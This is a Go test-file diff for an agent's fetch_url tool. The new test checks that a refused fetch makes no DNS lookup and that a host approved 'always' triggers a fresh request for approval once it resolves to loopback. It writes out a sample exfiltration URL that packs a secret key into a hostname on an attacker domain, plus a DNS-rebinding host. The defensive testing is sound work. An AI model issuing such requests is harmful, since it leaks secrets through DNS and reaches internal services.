@@ -3,6 +3,7 @@ package tool
 import (
 	"context"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"net"
 	"net/http"
@@ -281,4 +282,46 @@ func TestShellDoesNotWaitForBackgroundChildren(t *testing.T) {
 		t.Fatalf("the child %d is not running: run_shell waited for it", pid)
 	}
 	syscall.Kill(pid, syscall.SIGKILL)
+}
+
+// TestFetchLooksNothingUpBeforeTheAnswer: a refused fetch of a name that
+// carries a secret makes no DNS query (it did at review); an "always"
+// for a host does not cover it resolving to loopback later (a rebind).
+func TestFetchLooksNothingUpBeforeTheAnswer(t *testing.T) {
+	t.Parallel()
+	var lookups []string
+	answer := net.IPAddr{IP: net.IP{203, 0, 113, 7}}
+	fetch := FetchURL{Lookup: func(_ context.Context, host string) ([]net.IPAddr, error) {
+		lookups = append(lookups, host)
+		if answer.IP == nil {
+			return nil, errors.New("no such host")
+		}
+		return []net.IPAddr{answer}, nil
+	}}
+	var asked []Request
+	verdict := Decision{Verdict: Deny, Reason: "no"}
+	set := NewSet(fetch)
+	set.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
+		asked = append(asked, r)
+		return verdict, nil
+	})
+	r := call(set, "fetch_url", map[string]any{"url": "http://sk-live-secret.attacker.invalid/x"})
+	if len(asked) != 1 || r.ErrType != ErrTypeDenied || len(lookups) != 0 {
+		t.Fatalf("asked %d, %+v, lookups %v", len(asked), r, lookups)
+	}
+	// "always" for the host, while it is public (the fetch itself fails:
+	// nothing listens there).
+	answer.IP = nil
+	verdict = Decision{Verdict: AllowAlways}
+	call(set, "fetch_url", map[string]any{"url": "http://rebind.example:9/"})
+	if len(asked) != 2 {
+		t.Fatalf("asked %d", len(asked))
+	}
+	// Now the name points at loopback: the person is asked again, told why.
+	answer.IP = net.IP{127, 0, 0, 1}
+	verdict = Decision{Verdict: Deny, Reason: "no"}
+	r = call(set, "fetch_url", map[string]any{"url": "http://rebind.example:9/"})
+	if len(asked) != 3 || !strings.Contains(asked[2].Review.Warning, "loopback") || r.ErrType == "" {
+		t.Fatalf("a rebind to loopback did not ask again: asked %d %+v", len(asked), r)
+	}
 }
